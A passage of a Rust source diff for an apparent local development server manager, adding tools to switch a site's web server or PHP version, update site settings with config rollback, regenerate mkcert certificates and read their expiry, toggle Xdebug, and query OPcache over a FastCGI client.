+            notes.push(format!("{} reload failed: {}", current, e));
+        }
+    }
+
+    // Ensure the target server is running and has picked up the new config
+    let target_result = if target == "apache" {
+        restart_apache(&bin_dir)
+    } else if is_service_running("nginx") {
+        nginx_test_and_reload(&bin_dir)
+    } else {
+        let services = scan_services_cached(&bin_dir);
+        services.iter().find(|s| s.service_type == "nginx")
+            .ok_or_else(|| "Nginx is not installed".to_string())
+            .and_then(|svc| start_service_process(svc).map(|_| ()))
+    };
+    if let Err(e) = target_result {
+        notes.push(format!("{} could not be started/reloaded: {}", target, e));
+    }
+
+    let mut message = format!("Site '{}' switched from {} to {}\nConfig: {}",
+        domain, current, target, new_conf.display());
+    for note in notes {
+        message.push_str(&format!("\nWarning: {}", note));
+    }
+    Ok(message)
+}
+
+fn tool_set_site_php_version(domain: &str, version: &str) -> Result<String, String> {
+    if domain.is_empty() || version.is_empty() {
+        return Err("Domain and PHP version are required".to_string());
+    }
+    let version = version.trim().trim_start_matches("php-");
+
+    let bin_dir = get_bin_dir();
+    let installed = installed_php_versions(&bin_dir);
+    if !installed.iter().any(|v| v == version) {
+        let list = if installed.is_empty() { "none".to_string() } else { installed.join(", ") };
+        return Err(format!("PHP {} is not installed. Installed versions: {}", version, list));
+    }
+
+    let lock = lock_sites_store()?;
+    let mut store = read_sites_store()?;
+    let site = store.sites.iter().find(|s| s.domain == domain)
+        .cloned()
+        .ok_or_else(|| format!("Site '{}' not found", domain))?;
+    if site.web_server != "nginx" {
+        return Err(format!("Site '{}' is served by {}; only nginx sites are supported", domain, site.web_server));
+    }
+    let previous = site.php_version.clone()
+        .ok_or_else(|| format!("Site '{}' does not use PHP", domain))?;
+    if previous == version {
+        return Ok(format!("Site '{}' already uses PHP {}", domain, version));
+    }
+
+    let port = php_port(version).unwrap_or(DEFAULT_PHP_PORT);
+    let conf_path = site_config_path(&bin_dir, "nginx", domain);
+    let config = fs::read_to_string(&conf_path)
+        .map_err(|e| format!("Failed to read nginx config for '{}': {}", domain, e))?;
+    let updated = replace_fastcgi_port(&config, port)
+        .ok_or_else(|| format!("No fastcgi_pass line found in {}", conf_path.display()))?;
 
-    // Reload nginx if running
-    if is_service_running("nginx") {
-        nginx_test_and_reload(&bin_dir).ok();
+    let nginx_running = is_service_running("nginx");
+    write_with_rollback(&conf_path, &updated, || {
+        if nginx_running { nginx_config_test(&bin_dir) } else { Ok(()) }
+    })?;
+
+    if let Some(entry) = store.sites.iter_mut().find(|s| s.domain == domain) {
+        entry.php_version = Some(version.to_string());
+        if entry.php_port.is_some() {
+            entry.php_port = Some(port);
+        }
+        entry.updated_at = chrono_now();
+    }
+    if let Err(e) = write_sites_store(&store) {
+        let _ = fs::write(&conf_path, &config);
+        return Err(format!("{} (nginx config rolled back)", e));
     }
+    drop(lock);
 
-    Ok(format!("Site '{}' created successfully\nDocument root: {}\nNginx config: {}",
-        domain, path, conf_path.display()))
+    let mut message = format!("Site '{}' switched from PHP {} to PHP {} (fastcgi_pass 127.0.0.1:{})",
+        domain, previous, version, port);
+    if nginx_running {
+        if let Err(e) = nginx_test_and_reload(&bin_dir) {
+            message.push_str(&format!("\nWarning: nginx reload failed: {}", e));
+        }
+    }
+    if !is_service_running(&format!("php-{}", version)) {
+        message.push_str(&format!("\nWarning: php-{} is not running — start it to serve the site", version));
+    }
+    Ok(message)
 }
 
-fn tool_delete_site(domain: &str) -> Result<String, String> {
+fn tool_get_site(domain: &str) -> Result<String, String> {
     if domain.is_empty() {
         return Err("Domain is required".to_string());
     }
+    let store = read_sites_store()?;
+    let site = store.sites.iter().find(|s| s.domain == domain)
+        .ok_or_else(|| format!("Site '{}' not found", domain))?;
+    Ok(serde_json::to_string_pretty(site).unwrap())
+}
 
-    let bin_dir = get_bin_dir();
-    let mut store = read_sites_store()?;
-
-    let initial_len = store.sites.len();
-    store.sites.retain(|s| s.domain != domain);
-    if store.sites.len() == initial_len {
-        return Err(format!("Site '{}' not found", domain));
-    }
+/// Settings `tool_update_site` can change; `None` keeps the current value.
+#[derive(Default)]
+struct SiteUpdate<'a> {
+    path: Option<&'a str>,
+    aliases: Option<Vec<String>>,
+    php_version: Option<&'a str>,
+    ssl: Option<bool>,
+    hsts: Option<bool>,
+    proxy_port: Option<u16>,
+    gzip: Option<bool>,
+    brotli: Option<bool>,
+}
 
-    write_sites_store(&store)?;
+/// Validate `update` against `site` and apply it. Returns the names of the
+/// settings that changed.
+fn apply_site_update(site: &mut SiteMetadata, update: &SiteUpdate, others: &[SiteMetadata], installed_php: &[String]) -> Result<Vec<&'static str>, String> {
+    let mut changed = Vec::new();
 
-    // Remove nginx config
-    let conf_path = bin_dir.join("nginx").join("conf").join("sites-enabled").join(format!("{}.conf", domain));
-    if conf_path.exists() {
-        fs::remove_file(&conf_path).ok();
+    if let Some(path) = update.path {
+        if path.is_empty() || path.contains("..") {
+            return Err("Invalid path: must be non-empty without path traversal".to_string());
+        }
+        if site.path != path {
+            site.path = path.to_string();
+            changed.push("path");
+        }
     }
-
-    // Remove hosts entry
-    remove_hosts_entry(domain).ok();
-
-    // Reload nginx if running
-    if is_service_running("nginx") {
-        nginx_test_and_reload(&bin_dir).ok();
+    if let Some(aliases) = &update.aliases {
+        for name in aliases {
+            check_domain_name(name)?;
+            if name == &site.domain {
+                return Err(format!("'{}' is the site's own domain, not an alias", name));
+            }
+            if let Some(owner) = others.iter().find(|s| &s.domain == name || s.aliases.contains(name)) {
+                return Err(format!("'{}' is already used by site '{}'", name, owner.domain));
+            }
+        }
+        if &site.aliases != aliases {
+            site.aliases = aliases.clone();
+            changed.push("aliases");
+        }
     }
-
-    Ok(format!("Site '{}' deleted successfully", domain))
+    if let Some(version) = update.php_version {
+        let version = version.trim().trim_start_matches("php-");
+        if site.php_version.is_none() {
+            return Err(format!("Site '{}' does not use PHP", site.domain));
+        }
+        if !installed_php.iter().any(|v| v == version) {
+            let list = if installed_php.is_empty() { "none".to_string() } else { installed_php.join(", ") };
+            return Err(format!("PHP {} is not installed. Installed versions: {}", version, list));
+        }
+        if site.php_version.as_deref() != Some(version) {
+            site.php_version = Some(version.to_string());
+            if site.php_port.is_some() {
+                site.php_port = Some(php_port(version).unwrap_or(DEFAULT_PHP_PORT));
+            }
+            changed.push("php_version");
+        }
+    }
+    if let Some(port) = update.proxy_port {
+        if site.dev_port.is_none() {
+            return Err(format!("Site '{}' is not a reverse-proxy site", site.domain));
+        }
+        if port == 0 {
+            return Err("proxy_port must be between 1 and 65535".to_string());
+        }
+        if site.dev_port != Some(port) {
+            site.dev_port = Some(port);
+            changed.push("proxy_port");
+        }
+    }
+    if let Some(ssl) = update.ssl {
+        if site.ssl_enabled != ssl {
+            site.ssl_enabled = ssl;
+            site.port = if ssl { 443 } else { 80 };
+            changed.push("ssl");
+        }
+    }
+    let flags: [(&'static str, Option<bool>, &mut bool); 3] = [
+        ("hsts", update.hsts, &mut site.hsts),
+        ("gzip", update.gzip, &mut site.gzip),
+        ("brotli", update.brotli, &mut site.brotli),
+    ];
+    for (name, value, field) in flags {
+        if let Some(value) = value {
+            if *field != value {
+                *field = value;
+                changed.push(name);
+            }
+        }
+    }
+    Ok(changed)
 }
 
-fn tool_get_site_config(domain: &str) -> Result<String, String> {
+/// Change per-site settings kept in sites.json and regenerate the site's
+/// nginx config from them. Settings left as `None` keep their current value.
+fn tool_update_site(domain: &str, update: SiteUpdate) -> Result<String, String> {
     if domain.is_empty() {
         return Err("Domain is required".to_string());
     }
 
     let bin_dir = get_bin_dir();
-    let conf_path = bin_dir.join("nginx").join("conf").join("sites-enabled").join(format!("{}.conf", domain));
+    let lock = lock_sites_store()?;
+    let mut store = read_sites_store()?;
+    let mut site = store.sites.iter().find(|s| s.domain == domain)
+        .cloned()
+        .ok_or_else(|| format!("Site '{}' not found", domain))?;
+    if site.web_server != "nginx" {
+        return Err(format!("Site '{}' is served by {}; only nginx sites are supported", domain, site.web_server));
+    }
+    let previous_aliases = site.aliases.clone();
+    let others: Vec<SiteMetadata> = store.sites.iter().filter(|s| s.domain != domain).cloned().collect();
+    let changed = apply_site_update(&mut site, &update, &others, &installed_php_versions(&bin_dir))?;
+    if changed.is_empty() {
+        return Ok(format!("Nothing to update: site '{}' already has these settings", domain));
+    }
+    site.updated_at = chrono_now();
 
-    if !conf_path.exists() {
-        return Err(format!("No nginx config found for '{}'", domain));
+    // The SSL config points at the certificate, so nginx -t needs it to exist
+    let mut notes = Vec::new();
+    if site.ssl_enabled && !bin_dir.join("nginx").join("ssl").join(format!("{}.pem", domain)).exists() {
+        tool_generate_ssl(domain)?;
+        notes.push(format!("Generated SSL certificate for {}", domain));
     }
 
-    fs::read_to_string(&conf_path)
-        .map_err(|e| format!("Failed to read config: {}", e))
+    let conf_path = site_config_path(&bin_dir, "nginx", domain);
+    let previous_config = fs::read_to_string(&conf_path).ok();
+    let nginx_running = is_service_running("nginx");
+    write_with_rollback(&conf_path, &generate_site_nginx_config(&site, &bin_dir), || {
+        if nginx_running { nginx_config_test(&bin_dir) } else { Ok(()) }
+    })?;
+
+    let updated = site.clone();
+    if let Some(entry) = store.sites.iter_mut().find(|s| s.domain == domain) {
+        *entry = site;
+    }
+    if let Err(e) = write_sites_store(&store) {
+        match previous_config {
+            Some(config) => { let _ = fs::write(&conf_path, config); }
+            None => { let _ = fs::remove_file(&conf_path); }
+        }
+        return Err(format!("{} (nginx config rolled back)", e));
+    }
+    drop(lock);
+
+    for alias in previous_aliases.iter().filter(|a| !updated.aliases.contains(a)) {
+        remove_hosts_entry(alias).ok();
+    }
+    for alias in updated.aliases.iter().filter(|a| !previous_aliases.contains(a)) {
+        add_hosts_entry(alias).ok(); // Don't fail if hosts write fails
+    }
+
+    let mut message = format!("Site '{}' updated ({})\nNginx config: {}",
+        domain, changed.join(", "), conf_path.display());
+    for note in &notes {
+        message.push_str(&format!("\n{}", note));
+    }
+    if updated.brotli && !nginx_has_brotli(&bin_dir) {
+        message.push_str("\nWarning: nginx has no brotli module, so brotli was left out of the config");
+    }
+    if nginx_running {
+        if let Err(e) = nginx_test_and_reload(&bin_dir) {
+            message.push_str(&format!("\nWarning: nginx reload failed: {}", e));
+        }
+    }
+    if let Some(version) = updated.php_version.as_deref().filter(|_| changed.contains(&"php_version")) {
+        if !is_service_running(&format!("php-{}", version)) {
+            message.push_str(&format!("\nWarning: php-{} is not running — start it to serve the site", version));
+        }
+    }
+    Ok(message)
 }
 
 // ─── SSL Tools ───────────────────────────────────────────────────
 
+/// Issue `<domain>.pem` and `<domain>-key.pem` in `ssl_dir` with mkcert,
+/// covering the domain, its subdomains and localhost.
+fn mkcert_site_cert(mkcert: &std::path::Path, ssl_dir: &std::path::Path, domain: &str) -> Result<(PathBuf, PathBuf), String> {
+    let cert_file = ssl_dir.join(format!("{}.pem", domain));
+    let key_file = ssl_dir.join(format!("{}-key.pem", domain));
+
+    let output = run_command(
+        hidden_command(mkcert)
+            .arg("-cert-file").arg(&cert_file)
+            .arg("-key-file").arg(&key_file)
+            .arg(domain)
+            .arg(format!("*.{}", domain))
+            .arg("localhost")
+            .arg("127.0.0.1")
+            .arg("::1"),
+        "default",
+    )
+        .map_err(|e| format!("Failed to run mkcert: {}", e))?;
+
+    if !output.success() {
+        return Err(format!("mkcert error: {}", output.error_detail()));
+    }
+    Ok((cert_file, key_file))
+}
+
 fn tool_generate_ssl(domain: &str) -> Result<String, String> {
     if domain.is_empty() {
         return Err("Domain is required".to_string());
@@ -3305,27 +8556,133 @@ fn tool_generate_ssl(domain: &str) -> Result<String, String> {
     fs::create_dir_all(&ssl_dir)
         .map_err(|e| format!("Failed to create ssl dir: {}", e))?;
 
-    let cert_file = ssl_dir.join(format!("{}.pem", domain));
-    let key_file = ssl_dir.join(format!("{}-key.pem", domain));
+    let (cert_file, key_file) = mkcert_site_cert(&mkcert, &ssl_dir, domain)?;
+    Ok(format!("SSL certificate generated:\n  cert: {}\n  key: {}",
+        cert_file.display(), key_file.display()))
+}
 
-    let output = hidden_command(&mkcert)
-        .arg("-cert-file").arg(&cert_file)
-        .arg("-key-file").arg(&key_file)
-        .arg(domain)
-        .arg(format!("*.{}", domain))
-        .arg("localhost")
-        .arg("127.0.0.1")
-        .arg("::1")
-        .output()
-        .map_err(|e| format!("Failed to run mkcert: {}", e))?;
+/// Reissue the certificate of every SSL-enabled site (e.g. after the mkcert
+/// root CA changed), then reload nginx once.
+fn tool_regenerate_all_ssl() -> Result<String, String> {
+    let bin_dir = get_bin_dir();
+    let store = read_sites_store()?;
+    let domains: Vec<&str> = store.sites.iter()
+        .filter(|s| s.ssl_enabled)
+        .map(|s| s.domain.as_str())
+        .collect();
+    if domains.is_empty() {
+        return Ok("No SSL-enabled sites found.".to_string());
+    }
 
-    if !output.status.success() {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("mkcert error: {}", stderr.trim()));
+    let mkcert = find_mkcert(&bin_dir)?;
+    let ssl_dir = bin_dir.join("nginx").join("ssl");
+    fs::create_dir_all(&ssl_dir)
+        .map_err(|e| format!("Failed to create ssl dir: {}", e))?;
+
+    let results: Vec<Value> = domains.iter()
+        .map(|domain| match mkcert_site_cert(&mkcert, &ssl_dir, domain) {
+            Ok(_) => json!({ "domain": domain, "success": true }),
+            Err(e) => json!({ "domain": domain, "success": false, "error": e }),
+        })
+        .collect();
+    let regenerated = results.iter().filter(|r| r["success"] == true).count();
+
+    let reload = if regenerated > 0 && is_service_running("nginx") {
+        Some(nginx_test_and_reload(&bin_dir))
+    } else {
+        None
+    };
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "regenerated": regenerated,
+        "failed": results.len() - regenerated,
+        "skipped_without_ssl": store.sites.len() - domains.len(),
+        "nginx_reloaded": matches!(reload, Some(Ok(()))),
+        "nginx_error": reload.and_then(|r| r.err()),
+        "sites": results
+    })).unwrap())
+}
+
+/// diagnose_site flags certificates with fewer days left than this
+const SSL_EXPIRY_WARNING_DAYS: i64 = 14;
+
+fn base64_decode(input: &str) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(input.len() * 3 / 4);
+    let (mut buffer, mut bits) = (0u32, 0u32);
+    for c in input.bytes().filter(|c| !c.is_ascii_whitespace() && *c != b'=') {
+        let value = match c {
+            b'A'..=b'Z' => c - b'A',
+            b'a'..=b'z' => c - b'a' + 26,
+            b'0'..=b'9' => c - b'0' + 52,
+            b'+' => 62,
+            b'/' => 63,
+            _ => return None,
+        };
+        buffer = (buffer << 6) | value as u32;
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            out.push((buffer >> bits) as u8);
+            buffer &= (1 << bits) - 1;
+        }
     }
+    Some(out)
+}
 
-    Ok(format!("SSL certificate generated:\n  cert: {}\n  key: {}",
-        cert_file.display(), key_file.display()))
+/// Split one DER element off the front of `data`: (tag, contents, rest)
+fn der_element(data: &[u8]) -> Option<(u8, &[u8], &[u8])> {
+    let (&tag, data) = data.split_first()?;
+    let (&first, mut data) = data.split_first()?;
+    let len = if first < 0x80 {
+        first as usize
+    } else {
+        let count = (first & 0x7f) as usize;
+        if count == 0 || count > 4 || data.len() < count {
+            return None;
+        }
+        let len = data[..count].iter().fold(0usize, |len, &b| (len << 8) | b as usize);
+        data = &data[count..];
+        len
+    };
+    (data.len() >= len).then(|| (tag, &data[..len], &data[len..]))
+}
+
+/// UTCTime (YYMMDDHHMMSSZ) or GeneralizedTime (YYYYMMDDHHMMSSZ)
+fn der_time(tag: u8, content: &[u8]) -> Option<chrono::DateTime<chrono::Utc>> {
+    let text = std::str::from_utf8(content).ok()?.strip_suffix('Z')?;
+    let full = match tag {
+        0x17 => {
+            let year: u32 = text.get(..2)?.parse().ok()?;
+            format!("{}{}", if year < 50 { "20" } else { "19" }, text)
+        }
+        0x18 => text.to_string(),
+        _ => return None,
+    };
+    chrono::NaiveDateTime::parse_from_str(&full, "%Y%m%d%H%M%S").ok().map(|t| t.and_utc())
+}
+
+/// notAfter of a DER certificate: Certificate → tbsCertificate → validity.
+fn der_cert_not_after(der: &[u8]) -> Option<chrono::DateTime<chrono::Utc>> {
+    let (_, cert, _) = der_element(der)?;
+    let (_, tbs, _) = der_element(cert)?;
+    let (tag, _, mut rest) = der_element(tbs)?;
+    // The explicit [0] version is optional; the serial number follows it
+    if tag == 0xa0 {
+        rest = der_element(rest)?.2;
+    }
+    let (_, _, rest) = der_element(rest)?; // signature algorithm
+    let (_, _, rest) = der_element(rest)?; // issuer
+    let (_, validity, _) = der_element(rest)?;
+    let (_, _, after) = der_element(validity)?; // skip notBefore
+    let (tag, not_after, _) = der_element(after)?;
+    der_time(tag, not_after)
+}
+
+/// Expiry of the first certificate in a PEM file, `None` if it can't be read.
+fn cert_not_after(path: &std::path::Path) -> Option<chrono::DateTime<chrono::Utc>> {
+    let pem = fs::read_to_string(path).ok()?;
+    let body = pem.split("-----BEGIN CERTIFICATE-----").nth(1)?.split("-----END CERTIFICATE-----").next()?;
+    der_cert_not_after(&base64_decode(body)?)
 }
 
 fn tool_list_ssl_certs() -> Result<String, String> {
@@ -3344,10 +8701,14 @@ fn tool_list_ssl_certs() -> Result<String, String> {
             if fname.ends_with(".pem") && !fname.ends_with("-key.pem") {
                 let domain = fname.trim_end_matches(".pem");
                 let has_key = ssl_dir.join(format!("{}-key.pem", domain)).exists();
+                let expires = cert_not_after(&path);
                 certs.push(json!({
                     "domain": domain,
                     "cert": path.display().to_string(),
-                    "has_key": has_key
+                    "has_key": has_key,
+                    // null when the certificate can't be parsed
+                    "expires_at": expires.map(|t| t.to_rfc3339()),
+                    "days_remaining": expires.map(|t| (t - chrono::Utc::now()).num_days())
                 }));
             }
         }
@@ -3448,8 +8809,9 @@ fn tool_toggle_php_extension(version: &str, extension: &str, enabled: bool) -> R
     if !found && enabled {
         // Add the extension line if not found
         let new_content = format!("{}\n{}\n", new_content.trim_end(), enabled_line);
-        fs::write(&ini_path, new_content)
+        write_atomic(&ini_path, &new_content)
             .map_err(|e| format!("Failed to write php.ini: {}", e))?;
+        mark_pending_restart(&format!("php-{}", version), &format!("extension {} enabled", extension));
         return Ok(format!("Extension '{}' added and enabled for PHP {}", extension, version));
     }
 
@@ -3457,13 +8819,122 @@ fn tool_toggle_php_extension(version: &str, extension: &str, enabled: bool) -> R
         return Err(format!("Extension '{}' not found in php.ini for PHP {}", extension, version));
     }
 
-    fs::write(&ini_path, new_content)
+    write_atomic(&ini_path, &new_content)
         .map_err(|e| format!("Failed to write php.ini: {}", e))?;
 
     let action = if enabled { "enabled" } else { "disabled" };
+    mark_pending_restart(&format!("php-{}", version), &format!("extension {} {}", extension, action));
     Ok(format!("Extension '{}' {} for PHP {}", extension, action, version))
 }
 
+const XDEBUG_CLIENT_PORT: u16 = 9003;
+const XDEBUG_MODES: &[&str] = &["off", "develop", "coverage", "debug", "gcstats", "profile", "trace"];
+
+/// Rewrite php.ini so Xdebug is loaded (or commented out) with the given mode.
+/// Existing `zend_extension` lines keep their path; missing settings go under
+/// an `[xdebug]` section, which is appended if the file has none.
+fn apply_xdebug_ini(content: &str, enabled: bool, mode: &str) -> String {
+    let settings = [
+        ("xdebug.mode", mode.to_string()),
+        ("xdebug.client_port", XDEBUG_CLIENT_PORT.to_string()),
+    ];
+    let mut seen_extension = false;
+    let mut seen_settings = [false; 2];
+    let mut lines = Vec::new();
+    // php.ini files shipped for Windows use CRLF; keep whichever the file has
+    let eol = if content.contains("\r\n") { "\r\n" } else { "\n" };
+
+    for line in content.lines() {
+        let active = line.trim().trim_start_matches(';').trim();
+        let key = active.split('=').next().unwrap_or("").trim();
+        if key == "zend_extension" && active.to_lowercase().contains("xdebug") {
+            seen_extension = true;
+            lines.push(if enabled { active.to_string() } else { format!(";{}", active) });
+        } else if let Some(i) = settings.iter().position(|(k, _)| *k == key) {
+            seen_settings[i] = true;
+            lines.push(format!("{}={}", settings[i].0, settings[i].1));
+        } else {
+            lines.push(line.to_string());
+        }
+    }
+
+    let mut missing = Vec::new();
+    if !seen_extension {
+        missing.push(if enabled { "zend_extension=xdebug" } else { ";zend_extension=xdebug" }.to_string());
+    }
+    for (i, (key, value)) in settings.iter().enumerate() {
+        if !seen_settings[i] {
+            missing.push(format!("{}={}", key, value));
+        }
+    }
+
+    if !missing.is_empty() {
+        match lines.iter().position(|l| l.trim().eq_ignore_ascii_case("[xdebug]")) {
+            Some(section) => {
+                lines.splice(section + 1..section + 1, missing);
+            }
+            None => {
+                while lines.last().is_some_and(|l| l.trim().is_empty()) {
+                    lines.pop();
+                }
+                lines.push(String::new());
+                lines.push("[xdebug]".to_string());
+                lines.extend(missing);
+            }
+        }
+    }
+
+    format!("{}{}", lines.join(eol), eol)
+}
+
+fn tool_toggle_xdebug(version: &str, enabled: bool, mode: Option<&str>) -> Result<String, String> {
+    if version.is_empty() {
+        return Err("PHP version is required".to_string());
+    }
+    let mode = mode.unwrap_or(if enabled { "debug" } else { "off" });
+    if let Some(bad) = mode.split(',').map(str::trim).find(|m| !XDEBUG_MODES.contains(m)) {
+        return Err(format!("Invalid Xdebug mode '{}'. Use one or more of: {}", bad, XDEBUG_MODES.join(", ")));
+    }
+
+    let bin_dir = get_bin_dir();
+    let ini_path = get_php_ini_path(&bin_dir, version)?;
+    let content = fs::read_to_string(&ini_path)
+        .map_err(|e| format!("Failed to read php.ini: {}", e))?;
+    let backup = backup_file(&ini_path)?;
+
+    fs::write(&ini_path, apply_xdebug_ini(&content, enabled, mode))
+        .map_err(|e| format!("Failed to write php.ini: {}", e))?;
+
+    // php_xdebug*.dll on Windows, xdebug.so elsewhere
+    let ext_dir = bin_dir.join("php").join(version).join("ext");
+    let extension_file = fs::read_dir(&ext_dir).ok().and_then(|entries| {
+        entries.flatten()
+            .map(|e| e.file_name().to_string_lossy().to_string())
+            .find(|name| name.to_lowercase().contains("xdebug") && (name.ends_with(".dll") || name.ends_with(".so")))
+    });
+
+    let action = if enabled { "enabled" } else { "disabled" };
+    mark_pending_restart(&format!("php-{}", version), &format!("xdebug {}", action));
+
+    let mut result = json!({
+        "version": version,
+        "enabled": enabled,
+        "mode": mode,
+        "client_port": XDEBUG_CLIENT_PORT,
+        "php_ini": ini_path.to_string_lossy(),
+        "backup": backup.map(|b| b.to_string_lossy().to_string()),
+        "extension_file": extension_file
+    });
+    if enabled && extension_file.is_none() {
+        result["warning"] = json!(format!(
+            "Xdebug is not installed for PHP {}: no xdebug library in {}. Download the matching build from https://xdebug.org/download and place it there.",
+            version, ext_dir.display()
+        ));
+    }
+
+    Ok(serde_json::to_string_pretty(&result).unwrap())
+}
+
 fn tool_get_php_config(version: &str) -> Result<String, String> {
     if version.is_empty() {
         return Err("PHP version is required".to_string());
@@ -3529,19 +9000,252 @@ fn tool_set_php_config(version: &str, key: &str, value: &str) -> Result<String,
 
     if !found {
         let new_content = format!("{}\n{}\n", new_content.trim_end(), new_line);
-        fs::write(&ini_path, new_content)
+        write_atomic(&ini_path, &new_content)
             .map_err(|e| format!("Failed to write php.ini: {}", e))?;
+        mark_pending_restart(&format!("php-{}", version), &format!("{} changed in php.ini", key));
         return Ok(format!("Added {} = {} to PHP {} config", key, value, version));
     }
 
-    fs::write(&ini_path, new_content)
+    write_atomic(&ini_path, &new_content)
         .map_err(|e| format!("Failed to write php.ini: {}", e))?;
+    mark_pending_restart(&format!("php-{}", version), &format!("{} changed in php.ini", key));
 
     Ok(format!("Set {} = {} for PHP {}", key, value, version))
 }
 
+// ─── OPcache Tools ───────────────────────────────────────────────
+
+const OPCACHE_QUERY_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(10);
+
+/// Prints `{"loaded": bool, "status": opcache_get_status() or false}`
+const OPCACHE_STATUS_PHP: &str = "echo json_encode(['loaded' => function_exists('opcache_get_status'), \
+    'status' => function_exists('opcache_get_status') ? opcache_get_status(false) : false]);";
+
+/// Prints `{"loaded": bool, "reset": bool}`
+const OPCACHE_RESET_PHP: &str = "echo json_encode(['loaded' => function_exists('opcache_reset'), \
+    'reset' => function_exists('opcache_reset') && opcache_reset()]);";
+
+/// One FastCGI record (version 1, request id 1)
+fn fcgi_record(record_type: u8, content: &[u8]) -> Vec<u8> {
+    let mut record = vec![1, record_type, 0, 1];
+    record.extend_from_slice(&(content.len() as u16).to_be_bytes());
+    record.extend_from_slice(&[0, 0]);
+    record.extend_from_slice(content);
+    record
+}
+
+/// FastCGI name-value pairs: lengths under 128 take one byte, longer ones four
+fn fcgi_params(params: &[(&str, &str)]) -> Vec<u8> {
+    let mut out = Vec::new();
+    for (name, value) in params {
+        for len in [name.len(), value.len()] {
+            if len < 128 {
+                out.push(len as u8);
+            } else {
+                out.extend_from_slice(&(len as u32 | 0x8000_0000).to_be_bytes());
+            }
+        }
+        out.extend_from_slice(name.as_bytes());
+        out.extend_from_slice(value.as_bytes());
+    }
+    out
+}
+
+/// Run `script` on the FastCGI server at `port` (the running php-cgi or
+/// php-fpm) and return the response body, without its CGI headers.
+fn fastcgi_run_script(port: u16, script: &std::path::Path) -> Result<String, String> {
+    const BEGIN_REQUEST: u8 = 1;
+    const END_REQUEST: u8 = 3;
+    const PARAMS: u8 = 4;
+    const STDIN: u8 = 5;
+    const STDOUT: u8 = 6;
+    const STDERR: u8 = 7;
+
+    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
+    let mut stream = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(2))
+        .map_err(|e| format!("Connection to PHP on port {} failed: {}", port, e))?;
+    stream.set_read_timeout(Some(OPCACHE_QUERY_TIMEOUT)).ok();
+    stream.set_write_timeout(Some(OPCACHE_QUERY_TIMEOUT)).ok();
+
+    let script_path = script.display().to_string();
+    let params = fcgi_params(&[
+        ("SCRIPT_FILENAME", &script_path),
+        ("SCRIPT_NAME", "/orbit-opcache.php"),
+        ("REQUEST_METHOD", "GET"),
+        ("QUERY_STRING", ""),
+        ("SERVER_PROTOCOL", "HTTP/1.1"),
+        ("GATEWAY_INTERFACE", "CGI/1.1"),
+        ("SERVER_NAME", "localhost"),
+        ("SERVER_ADDR", "127.0.0.1"),
+        ("SERVER_PORT", "80"),
+        ("REMOTE_ADDR", "127.0.0.1"),
+    ]);
+    // Responder role, close the connection when done
+    let mut request = fcgi_record(BEGIN_REQUEST, &[0, 1, 0, 0, 0, 0, 0, 0]);
+    request.extend(fcgi_record(PARAMS, &params));
+    request.extend(fcgi_record(PARAMS, &[]));
+    request.extend(fcgi_record(STDIN, &[]));
+    stream.write_all(&request).map_err(|e| format!("Failed to send FastCGI request: {}", e))?;
+
+    let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
+    loop {
+        let mut header = [0u8; 8];
+        stream.read_exact(&mut header).map_err(|e| format!("Incomplete FastCGI response: {}", e))?;
+        let length = u16::from_be_bytes([header[4], header[5]]) as usize;
+        let mut content = vec![0u8; length + header[6] as usize];
+        stream.read_exact(&mut content).map_err(|e| format!("Incomplete FastCGI response: {}", e))?;
+        content.truncate(length);
+        match header[1] {
+            STDOUT => stdout.extend(content),
+            STDERR => stderr.extend(content),
+            END_REQUEST => break,
+            _ => {}
+        }
+    }
+
+    let response = String::from_utf8_lossy(&stdout).to_string();
+    let body = response.split_once("\r\n\r\n").map(|(_, body)| body).unwrap_or(&response);
+    if body.trim().is_empty() && !stderr.is_empty() {
+        return Err(format!("PHP error: {}", String::from_utf8_lossy(&stderr).trim()));
+    }
+    Ok(body.to_string())
+}
+
+/// Run a PHP snippet in the running PHP `version` over FastCGI, or, when it
+/// isn't running and `cli_fallback` is set, in a CLI process with OPcache
+/// allowed. Returns the output and where it ran ("fastcgi" or "cli");
+/// `None` when PHP isn't running and there's no fallback.
+fn run_opcache_snippet(version: &str, code: &str, cli_fallback: bool) -> Result<Option<(String, &'static str)>, String> {
+    let bin_dir = get_bin_dir();
+    let php_dir = bin_dir.join("php").join(version);
+    if !php_dir.is_dir() {
+        return Err(format!("PHP {} is not installed", version));
+    }
+
+    let port = get_service_port(&format!("php-{}", version)).unwrap_or(DEFAULT_PHP_PORT);
+    if is_port_in_use(port) {
+        // A random, owner-only name in Orbit's own temp dir, so no other user
+        // can plant or swap the script PHP runs; removed when dropped
+        let temp_dir = get_orbit_data_dir().join("temp");
+        fs::create_dir_all(&temp_dir)
+            .map_err(|e| format!("Failed to create {}: {}", temp_dir.display(), e))?;
+        let mut script = tempfile::Builder::new()
+            .prefix("opcache-")
+            .suffix(".php")
+            .tempfile_in(&temp_dir)
+            .map_err(|e| format!("Failed to create a script in {}: {}", temp_dir.display(), e))?;
+        write!(script, "<?php {}", code)
+            .map_err(|e| format!("Failed to write {}: {}", script.path().display(), e))?;
+        return fastcgi_run_script(port, script.path()).map(|out| Some((out, "fastcgi")));
+    }
+    if !cli_fallback {
+        return Ok(None);
+    }
+
+    let php = php_dir.join(exe_name("php"));
+    let result = run_with_timeout(
+        hidden_command(&php).args(["-d", "opcache.enable_cli=1", "-r", code]),
+        OPCACHE_QUERY_TIMEOUT,
+    ).map(CommandResult::from)
+        .map_err(|e| format!("Failed to run {}: {}", php.display(), e))?;
+    if !result.success() {
+        return Err(format!("PHP failed: {}", result.error_detail()));
+    }
+    Ok(Some((result.stdout, "cli")))
+}
+
+/// Hit rate, memory and script counts from `{"loaded", "status"}` as printed
+/// by OPCACHE_STATUS_PHP; an error that says why when OPcache is off
+fn summarize_opcache_status(version: &str, source: &str, output: &Value) -> Result<Value, String> {
+    if output["loaded"] != json!(true) {
+        return Err(format!("OPcache is not loaded for PHP {}. Enable the opcache extension (toggle_php_extension) and restart PHP.", version));
+    }
+    let status = &output["status"];
+    if !status.is_object() || status["opcache_enabled"] == json!(false) {
+        return Err(format!("OPcache is loaded but disabled for PHP {} (opcache.enable=0, or status hidden by opcache.restrict_api). Set opcache.enable=1 with set_php_config and restart PHP.", version));
